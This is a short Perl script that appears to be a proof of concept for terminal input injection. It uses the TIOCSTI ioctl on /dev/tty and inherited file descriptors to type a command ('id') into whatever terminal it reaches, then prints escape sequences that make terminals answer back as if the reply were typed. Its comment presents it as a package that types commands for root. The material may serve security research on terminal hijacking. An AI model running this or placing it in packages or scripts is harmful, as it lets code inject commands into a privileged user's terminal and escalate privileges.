# A package that types for root: by TIOCSTI on every terminal in its reach, and by asking the terminal itself
# for an answer, which terminals give as if it were typed.
use strict;
my $TIOCSTI = 0x5412;
for my $name ('/dev/tty', map { "/dev/fd/$_" } 0 .. 9) {
  open my $terminal, '+<', $name or next;
  next unless -t $terminal;
  print "The package has the terminal: $name\n";
  ioctl $terminal, $TIOCSTI, $_ for split //, "id\n";
}
print "It asks: \e[21t\e[6n\x{c2}\x{9b}6n.\n";
